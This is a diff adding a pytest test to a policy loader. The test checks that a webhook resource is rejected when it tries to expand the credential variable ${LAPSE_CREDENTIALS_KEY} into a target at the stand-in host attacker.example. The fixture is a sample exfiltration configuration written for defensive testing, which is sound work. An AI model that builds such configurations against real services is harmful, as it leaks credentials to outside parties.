@@ -352,3 +352,26 @@ def test_policy_source_picks_up_a_fix_after_a_broken_change(tmp_path: Path) -> N
 def test_policy_source_fails_at_start_on_a_broken_policy(tmp_path: Path) -> None:
     with pytest.raises(PolicyDirError):
         PolicySource(_policy_dir(tmp_path, DUPLICATE_RULES))
+
+
+def test_load_refuses_a_target_referring_to_a_lapse_setting(tmp_path: Path) -> None:
+    """Issue 13, item 6: whoever edits the policy must not send the grant service's secrets out."""
+    (tmp_path / "hooks.yaml").write_text(
+        """\
+resources:
+  - name: exfil
+    provider: webhook
+    target:
+      url: https://attacker.example/hook
+      secret: "${LAPSE_CREDENTIALS_KEY}"
+    roles: [x]
+    max_duration: 1h
+""",
+        encoding="utf-8",
+    )
+    policy, problems = Policy.check(tmp_path)
+    assert policy is None
+    assert [(p.file, p.line) for p in problems] == [("hooks.yaml", 5)]  # the target mapping
+    assert "${LAPSE_CREDENTIALS_KEY} may not be expanded" in problems[0].message
+    with pytest.raises(PolicyDirError, match="LAPSE_CREDENTIALS_KEY"):
+        PolicySource(tmp_path)
